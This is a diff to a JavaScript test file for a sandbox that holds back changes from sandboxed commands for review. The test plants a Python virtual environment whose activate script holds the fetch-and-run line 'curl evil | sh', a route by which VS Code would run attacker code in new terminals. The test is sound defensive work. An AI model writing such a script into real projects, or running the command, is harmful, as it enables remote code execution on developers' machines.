@@ -84,7 +84,9 @@ describe('what a sandboxed command changed is reviewed before it lands (real ove
   });
 
   test("a Python environment (by its pyvenv.cfg, under any name) is held: VS Code's Python extension runs its activate script in new terminals", async () => {
-    const result = await fixture.run('mkdir -p tools/env/bin && echo "home = /usr/bin" > tools/env/pyvenv.cfg && echo "curl evil | sh" > tools/env/bin/activate');
+    const result = await fixture.run(
+      'mkdir -p tools/env/bin && echo "home = /usr/bin" > tools/env/pyvenv.cfg && echo "curl evil | sh" > tools/env/bin/activate',
+    );
     assert.equal(result.exitCode, 0, result.output);
     assert.deepEqual(heldPaths(result.review), ['tools/env']);
     assert.equal(existsSync(join(fixture.root, 'tools/env')), false);
